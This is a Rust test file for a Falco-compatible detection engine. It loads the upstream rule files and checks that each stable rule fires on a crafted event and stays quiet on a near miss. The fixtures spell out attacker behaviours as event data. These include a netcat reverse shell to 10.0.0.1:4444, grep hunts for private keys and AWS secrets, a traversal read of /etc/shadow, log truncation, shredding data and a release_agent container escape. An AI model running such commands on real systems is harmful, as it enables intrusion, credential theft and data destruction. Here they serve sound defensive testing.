//! The upstream Falco rule files load unchanged, and every stable rule fires on a
//! crafted event and stays quiet on a near miss.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use lanner_engine::rules::{DisabledReason, Loader, Ruleset};
use serde_json::json;

fn load(file: &str) -> (Option<Ruleset>, lanner_engine::rules::Report) {
    let mut l = Loader::new();
    l.add_file(&common::rules_dir().join(file));
    l.finish()
}

#[test]
fn stable_file_loads_with_every_rule_enabled() {
    let (rs, report) = load("falco_rules.yaml");
    assert!(report.errors.is_empty(), "errors: {:#?}", report.errors);
    let rs = rs.expect("ruleset");
    assert_eq!(report.files[0].rules, 25);
    assert_eq!(report.files[0].macros, 87);
    assert_eq!(report.files[0].lists, 49);
    assert!(
        report.disabled.is_empty(),
        "disabled: {:#?}",
        report.disabled
    );
    assert_eq!(rs.rules().len(), 25);
    // Every stable rule names the event types it needs: none is judged on every event.
    for r in rs.rules() {
        assert!(
            !r.evttypes.is_all(),
            "rule {} is not restricted by evt.type",
            r.name
        );
    }
    // So a reader of stored events needs only these types (retro-hunt).
    let types = rs.event_types().expect("every rule names its types");
    for t in ["execve", "openat", "connect"] {
        assert!(types.contains(&t), "{t} missing from {types:?}");
    }
    assert!(!types.contains(&"read"), "{types:?}");
}

#[test]
fn a_rule_on_every_type_means_no_type_filter() {
    let mut l = Loader::new();
    l.add_str(
        "any.yaml",
        "- rule: Any root action\n  desc: x\n  condition: user.uid = 0\n  output: x\n  priority: INFO\n",
    );
    let rs = l.finish().0.expect("compiles");
    assert_eq!(rs.event_types(), None);
}

#[test]
fn incubating_and_sandbox_files_load() {
    for file in ["falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"] {
        let (rs, report) = load(file);
        assert!(
            report.errors.is_empty(),
            "{file}: errors: {:#?}",
            report.errors
        );
        assert!(rs.is_some());
        for d in &report.disabled {
            // Only fields the sensor cannot provide (environment, buffers, ...) or
            // `enabled: false` may disable a rule.
            assert!(
                matches!(
                    d.reason,
                    DisabledReason::MissingFields(_)
                        | DisabledReason::NotEnabled
                        | DisabledReason::SkippedUnknownFilter(_)
                ),
                "{file}: {d:?}"
            );
        }
    }
}

#[test]
fn all_three_files_load_together() {
    let mut l = Loader::new();
    for f in [
        "falco_rules.yaml",
        "falco-incubating_rules.yaml",
        "falco-sandbox_rules.yaml",
    ] {
        l.add_file(&common::rules_dir().join(f));
    }
    let (rs, report) = l.finish();
    assert!(report.errors.is_empty(), "errors: {:#?}", report.errors);
    assert!(rs.expect("ruleset").rules().len() > 25);
}

fn base() -> serde_json::Value {
    json!({
        "evt.id": "0000000000000001-1",
        "evt.time": "2026-01-01T00:00:10Z",
        "evt.num": 1,
        "evt.hostname": "node1",
        "evt.rawres": 0,
        "proc.pid": 4242,
        "proc.pid.ts": "2026-01-01T00:00:00Z",
        "proc.name": "bash",
        "proc.exe": "/bin/bash",
        "proc.exepath": "/bin/bash",
        "proc.args": "",
        "proc.cwd": "/root/",
        "proc.tty": 0,
        "proc.aname": ["sshd", "systemd"],
        "proc.aexe": ["/usr/sbin/sshd", "/sbin/init"],
        "proc.aexepath": ["/usr/sbin/sshd", "/sbin/init"],
        "user.uid": 1000,
        "user.name": "alice",
        "user.loginuid": 1000,
        "group.gid": 1000,
        "group.name": "alice",
        "container.id": "host",
    })
}

fn in_container(p: serde_json::Value) -> serde_json::Value {
    let mut o = json!({
        "container.id": "0123456789ab",
        "container.name": "web",
        "container.image.repository": "docker.io/library/alpine",
        "container.privileged": false,
    });
    for (k, v) in p.as_object().expect("object") {
        o[k] = v.clone();
    }
    o
}

fn exec(p: serde_json::Value) -> serde_json::Value {
    let mut o = json!({"evt.type": "execve", "evt.arg.flags": "EXE_WRITABLE"});
    for (k, v) in p.as_object().expect("object") {
        o[k] = v.clone();
    }
    o
}

fn open(flags: &str, name: &str, p: serde_json::Value) -> serde_json::Value {
    let mut o = json!({"evt.type": "openat", "evt.arg.flags": flags, "fd.type": "file", "fd.num": 3, "fd.name": name, "fd.nameraw": name});
    for (k, v) in p.as_object().expect("object") {
        o[k] = v.clone();
    }
    o
}

/// (rule, event that must fire it, near miss that must not).
fn cases() -> Vec<(&'static str, serde_json::Value, serde_json::Value)> {
    vec![
        (
            "Directory traversal monitored file read",
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"fd.nameraw": "/var/www/html/../../../etc/shadow", "proc.name": "php-fpm", "proc.aname": ["nginx"]}),
            ),
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"fd.nameraw": "/var/www/html/../../../etc/shadow", "proc.name": "cat", "proc.aname": ["bash"]}),
            ),
        ),
        (
            "Read sensitive file trusted after startup",
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"proc.name": "nginx", "proc.pid.ts": "2026-01-01T00:00:00Z"}),
            ),
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"proc.name": "nginx", "proc.pid.ts": "2026-01-01T00:00:08Z"}),
            ),
        ),
        (
            "Read sensitive file untrusted",
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"proc.name": "cat", "proc.cmdline": null, "proc.args": "/etc/shadow"}),
            ),
            open("O_RDONLY", "/etc/shadow", json!({"proc.name": "iptables"})),
        ),
        (
            "Run shell untrusted",
            exec(
                json!({"proc.name": "sh", "proc.args": "-c id", "proc.aname": ["nginx", "systemd"]}),
            ),
            exec(
                json!({"proc.name": "sh", "proc.args": "-c id", "proc.aname": ["sshd", "systemd"]}),
            ),
        ),
        (
            "System user interactive",
            exec(
                json!({"user.name": "www-data", "user.uid": 33, "proc.name": "ls", "proc.aname": ["bash", "sshd"]}),
            ),
            exec(json!({"user.name": "alice", "proc.name": "ls", "proc.aname": ["bash", "sshd"]})),
        ),
        (
            "Terminal shell in container",
            in_container(exec(json!({"proc.tty": 34816, "proc.aname": ["runc"]}))),
            in_container(exec(json!({"proc.tty": 0, "proc.aname": ["runc"]}))),
        ),
        (
            "Contact K8S API Server From Container",
            in_container(
                json!({"evt.type": "connect", "fd.type": "ipv4", "fd.num": 3, "fd.sip": "10.96.0.1", "fd.sport": 443, "fd.cip": "10.1.0.5", "fd.cport": 40000, "fd.l4proto": "tcp", "fd.sip.name": "kubernetes.default.svc.cluster.local"}),
            ),
            in_container(
                json!({"evt.type": "connect", "fd.type": "ipv4", "fd.num": 3, "fd.sip": "10.96.0.1", "fd.sport": 443, "fd.l4proto": "tcp", "fd.sip.name": "kubernetes.default.svc.cluster.local", "k8s.ns.name": "kube-system"}),
            ),
        ),
        (
            "Netcat Remote Code Execution in Container",
            in_container(exec(
                json!({"proc.name": "nc", "proc.exe": "nc", "proc.args": "-e /bin/sh 10.0.0.1 4444"}),
            )),
            in_container(exec(
                json!({"proc.name": "nc", "proc.exe": "nc", "proc.args": "-l 8080"}),
            )),
        ),
        (
            "Search Private Keys or Passwords",
            exec(json!({"proc.name": "grep", "proc.args": "-r \"BEGIN RSA PRIVATE\" /home"})),
            exec(json!({"proc.name": "grep", "proc.args": "-r hello /home"})),
        ),
        (
            "Clear Log Activities",
            open(
                "O_WRONLY|O_TRUNC",
                "/var/log/syslog",
                json!({"proc.name": "sh"}),
            ),
            open(
                "O_WRONLY|O_APPEND",
                "/var/log/syslog",
                json!({"proc.name": "sh"}),
            ),
        ),
        (
            "Remove Bulk Data from Disk",
            exec(json!({"proc.name": "shred", "proc.args": "-u /data/db"})),
            exec(json!({"proc.name": "rm", "proc.args": "-rf /data/db"})),
        ),
        (
            "Create Symlink Over Sensitive Files",
            json!({"evt.type": "symlinkat", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/s"}),
            json!({"evt.type": "symlinkat", "evt.arg.target": "/etc/hosts", "evt.arg.linkpath": "/tmp/s"}),
        ),
        (
            "Create Hardlink Over Sensitive Files",
            json!({"evt.type": "linkat", "evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/h"}),
            json!({"evt.type": "linkat", "evt.arg.oldpath": "/tmp/a", "evt.arg.newpath": "/tmp/h"}),
        ),
        (
            "Packet socket created in container",
            in_container(
                json!({"evt.type": "socket", "evt.arg.domain": "AF_PACKET", "proc.name": "tcpdump"}),
            ),
            in_container(
                json!({"evt.type": "socket", "evt.arg.domain": "AF_INET", "proc.name": "curl"}),
            ),
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            in_container(
                json!({"evt.type": "dup2", "evt.rawres": 1, "fd.num": 1, "fd.type": "ipv4", "fd.name": "10.0.0.5:40000->10.0.0.1:4444"}),
            ),
            in_container(
                json!({"evt.type": "dup2", "evt.rawres": 1, "fd.num": 1, "fd.type": "file", "fd.name": "/tmp/out"}),
            ),
        ),
        (
            "Linux Kernel Module Injection Detected",
            in_container(
                json!({"evt.type": "finit_module", "proc.name": "insmod", "thread.cap_effective": "CAP_SYS_ADMIN CAP_SYS_MODULE"}),
            ),
            in_container(
                json!({"evt.type": "finit_module", "proc.name": "insmod", "thread.cap_effective": "CAP_CHOWN"}),
            ),
        ),
        (
            "Debugfs Launched in Privileged Container",
            in_container(exec(
                json!({"proc.name": "debugfs", "container.privileged": true}),
            )),
            in_container(exec(
                json!({"proc.name": "debugfs", "container.privileged": false}),
            )),
        ),
        (
            "Detect release_agent File Container Escapes",
            in_container(open(
                "O_WRONLY",
                "/tmp/cgrp/release_agent",
                json!({"user.uid": 0, "thread.cap_effective": "CAP_SYS_ADMIN CAP_DAC_OVERRIDE"}),
            )),
            in_container(open(
                "O_WRONLY",
                "/tmp/cgrp/release_agent",
                json!({"user.uid": 0, "thread.cap_effective": "CAP_DAC_OVERRIDE"}),
            )),
        ),
        (
            "PTRACE attached to process",
            json!({"evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH", "proc.name": "gdb"}),
            json!({"evt.type": "ptrace", "evt.arg.request": "PTRACE_PEEKUSR", "proc.name": "gdb"}),
        ),
        (
            "PTRACE anti-debug attempt",
            json!({"evt.type": "ptrace", "evt.arg.request": "PTRACE_TRACEME", "proc.name": "malware"}),
            json!({"evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH", "proc.name": "malware"}),
        ),
        (
            "Find AWS Credentials",
            exec(json!({"proc.name": "grep", "proc.args": "-ri aws_secret_access_key /home"})),
            exec(json!({"proc.name": "grep", "proc.args": "-ri hello /home"})),
        ),
        (
            "Execution from /dev/shm",
            exec(
                json!({"proc.name": "payload", "proc.exe": "/dev/shm/payload", "proc.exepath": "/dev/shm/payload"}),
            ),
            exec(
                json!({"proc.name": "ls", "proc.exe": "/usr/bin/ls", "proc.exepath": "/usr/bin/ls", "proc.cwd": "/dev/shm/"}),
            ),
        ),
        (
            "Drop and execute new binary in container",
            in_container(exec(
                json!({"proc.name": "xmrig", "proc.is_exe_upper_layer": true}),
            )),
            in_container(exec(
                json!({"proc.name": "xmrig", "proc.is_exe_upper_layer": false}),
            )),
        ),
        (
            "Disallowed SSH Connection Non Standard Port",
            json!({"evt.type": "connect", "evt.rawres": 0, "proc.name": "ssh", "proc.exe": "/usr/bin/ssh", "fd.type": "ipv4", "fd.num": 3, "fd.l4proto": "tcp", "fd.cip": "172.17.0.2", "fd.cport": 50000, "fd.sip": "203.0.113.7", "fd.sport": 443}),
            json!({"evt.type": "connect", "evt.rawres": 0, "proc.name": "ssh", "proc.exe": "/usr/bin/ssh", "fd.type": "ipv4", "fd.num": 3, "fd.l4proto": "tcp", "fd.cip": "172.17.0.2", "fd.cport": 50000, "fd.sip": "203.0.113.7", "fd.sport": 22}),
        ),
        (
            "Fileless execution via memfd_create",
            exec(json!({"proc.name": "x", "proc.exe": "memfd:x", "proc.is_exe_from_memfd": true})),
            exec(
                json!({"proc.name": "runc", "proc.exe": "memfd:runc_cloned:/proc/self/exe", "proc.is_exe_from_memfd": true}),
            ),
        ),
    ]
}

#[test]
fn every_stable_rule_fires_on_its_event_and_not_on_a_near_miss() {
    let (rs, report) = load("falco_rules.yaml");
    assert!(report.errors.is_empty(), "{:#?}", report.errors);
    let rs = rs.expect("ruleset");
    let cases = cases();
    let mut covered: Vec<&str> = cases.iter().map(|c| c.0).collect();
    covered.sort();
    let mut all: Vec<&str> = rs.rules().iter().map(|r| r.name.as_str()).collect();
    all.sort();
    assert_eq!(covered, all, "every stable rule has a case");
    for (rule, fire, miss) in &cases {
        let fire_ev = common::event(&base(), fire);
        let hits = rs.matching_rules(&fire_ev);
        assert!(
            hits.contains(rule),
            "{rule}: did not fire on {fire}; matched {hits:?}"
        );
        let miss_ev = common::event(&base(), miss);
        let hits = rs.matching_rules(&miss_ev);
        assert!(
            !hits.contains(rule),
            "{rule}: fired on the near miss {miss}"
        );
    }
}

#[test]
fn shadow_read_by_untrusted_vs_trusted_program() {
    let (rs, _) = load("falco_rules.yaml");
    let rs = rs.expect("ruleset");
    let cat = common::event(
        &base(),
        &open(
            "O_RDONLY",
            "/etc/shadow",
            json!({"proc.name": "cat", "proc.args": "/etc/shadow"}),
        ),
    );
    assert!(
        rs.matching_rules(&cat)
            .contains(&"Read sensitive file untrusted")
    );
    for trusted in ["sshd", "sudo", "passwd", "dpkg", "bash"] {
        let ev = common::event(
            &base(),
            &open("O_RDONLY", "/etc/shadow", json!({"proc.name": trusted})),
        );
        assert!(
            !rs.matching_rules(&ev)
                .contains(&"Read sensitive file untrusted"),
            "{trusted}"
        );
    }
    // A write-only open is not a read.
    let w = common::event(
        &base(),
        &open("O_WRONLY", "/etc/shadow", json!({"proc.name": "cat"})),
    );
    assert!(
        !rs.matching_rules(&w)
            .contains(&"Read sensitive file untrusted")
    );
}
